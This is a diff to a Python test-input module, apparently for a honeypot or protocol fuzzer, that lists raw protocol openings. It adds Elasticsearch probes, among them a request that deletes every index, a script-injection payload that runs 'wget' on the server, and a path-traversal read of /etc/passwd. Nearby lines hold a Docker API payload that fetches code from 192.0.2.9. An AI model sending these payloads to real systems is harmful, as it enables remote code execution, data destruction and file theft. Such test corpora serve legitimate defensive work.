@@ -65,6 +65,11 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"POST /v1.41/containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 67\r\n\r\n", b'{"Image":"alpine",',
         b'"Cmd":["sh","-c","wget http://192.0.2.9/x ; id"]}', b"GET /containers/json HTTP/1.1\r\nHost: a\r\n\r\n",
     ),
+    "elasticsearch": (
+        b"DELETE /_all HTTP/1.1\r\n\r\n", b"GET /_cat/indices HTTP/1.1\r\n\r\n",
+        b"POST /_search HTTP/1.1\r\nContent-Length: 69\r\n\r\n", b'{"script_fields":{"a":{"script":"',
+        b"'wget http://a/b'.execute().text", b'"}}}',
+    ),
     "epmap": (smb_client.BIND_ALIVE[:20], smb_client.BIND_ALIVE[20:], smb_client.request(5, b"")[:20], bytes(4)),
     "front": (b"G", b"ET / HTTP/1.1\r\n"),
     "ftp": (
@@ -205,6 +210,8 @@ WORDS = [
     b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
     mongo_client.msg({"find": "c"}, "d"), mongo_client.msg({"insert": 1, "documents": 5, "updates": [7]}),
     b"\x01\x01\0\x1c\0\0\1\0" + "select 1 1".encode("utf-16-le"), b"\0\0\0\x08\x04\xd2\x16\x2f",
+    b'PUT /a/b/c HTTP/1.1\r\nContent-Length: 9\r\n\r\n{"a":"b"}',
+    b"GET /_plugin/head/../../etc/passwd HTTP/1.1\r\n\r\n",
     b"Q\0\0\0\x0dselect 1\0", b"\x07\0\0\0\x03SELECT", b"\x09\0\0\0\x03select 1",
 ]  # fmt: skip
 
